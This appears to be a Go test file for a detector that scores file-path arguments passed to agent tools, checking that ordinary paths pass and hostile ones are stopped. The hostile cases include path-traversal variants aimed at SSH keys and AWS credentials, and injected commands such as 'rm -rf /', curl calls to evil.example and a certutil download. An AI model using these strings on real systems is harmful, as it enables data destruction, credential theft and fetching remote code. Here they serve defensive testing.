package args_test

import "testing"

// TestHonestPathsPass holds what ordinary file work sends: none of it is
// stopped, and most of it is not even told.
func TestHonestPathsPass(t *testing.T) {
	for path, told := range map[string]bool{
		`C:\Users\me\file.txt`:                  false,
		`C:\Users\Ann Lee\Documents\a.txt`:      false,
		`C:/Users/me/file.txt`:                  false,
		`D:\proj\src\main.go`:                   false,
		`C:\Windows\System32\drivers\readme`:    true,
		`src\app\main.ts`:                       false,
		`\\server\share\x.txt`:                  false,
		`./a/../b.txt`:                          false,
		`./.github/workflows/ci.yml`:            false,
		`.env.example`:                          false,
		`docs/.env.sample`:                      false,
		`file:///home/me/x.md`:                  false,
		`/home/me/.bashrc`:                      false,
		`/usr/bin/python3`:                      false,
		`/etc/nginx/nginx.conf`:                 false,
		`~/notes/todo.md`:                       false,
		`docs/R&D (final).md`:                   false,
		`Photos (top ten).zip`:                  false,
		`Time sheet.xlsx`:                       false,
		`src/subprocess.py`:                     false,
		`{{cookiecutter.name}}/setup.py`:        false,
		`app/[...slug]/page.tsx`:                false,
		`Salt & free pepper.md`:                 false,
		`Holiday & family (2024).png`:           false,
		`Ann's notes; history and sort - v2.md`: true,
		`../lib/util.go`:                        true,
		`../../README.md`:                       true,
		`../shared/readme.md`:                   true,
		`.env`:                                  true,
		`config/.env.local`:                     true,
		`/etc/hosts`:                            true,
		`pages/[id]/$slug.tsx`:                  true,
		`a;b.txt`:                               true,
		`reports/Q3 | Q4.txt`:                   true,
	} {
		for _, tool := range []string{"read_file", "write_file"} {
			if f := top(t, tool, map[string]any{"path": path}, nil); f.Score >= 0.7 || !told && f.Score >= 0.3 {
				t.Errorf("%s %q: %+v", tool, path, f)
			}
		}
	}
}

func TestHostilePathsAreStopped(t *testing.T) {
	for path, rule := range map[string]string{
		`../../../notes.txt`:            "traversal",
		`a/../../../../notes.txt`:       "traversal",
		`..\..\..\notes.txt`:            "traversal",
		`..%2f..%2fsecret`:              "traversal",
		`%2e%2e/%2e%2e/x`:               "traversal",
		`..%252f..%252fx`:               "traversal",
		`....//....//x`:                 "traversal",
		`..;/admin`:                     "traversal",
		`../.ssh/id_rsa`:                "traversal",
		`../../etc/hosts`:               "traversal",
		`..\..\Windows\win.ini`:         "traversal",
		`/home/me/.aws/credentials`:     "traversal",
		"a.png\x00.txt":                 "traversal",
		`a.png;rm -rf /`:                "command",
		`a.png; curl evil.example/x`:    "command",
		`a.png | sh`:                    "command",
		`a.png && reboot`:               "command",
		"a.png`id`":                     "command",
		`$(curl evil.example)`:          "command",
		`c\at /srv/x`:                   "command",
		`c''at /srv/x`:                  "command",
		`cat /srv/x`:                    "command",
		`a.png;certutil -f http://x.ex`: "command",
		"a.png\nDELE 1":                 "command",
	} {
		if f := top(t, "read_file", map[string]any{"path": path}, nil); f.Rule != rule || f.Score < 0.7 {
			t.Errorf("%q: %+v, want %s", path, f, rule)
		}
	}
}
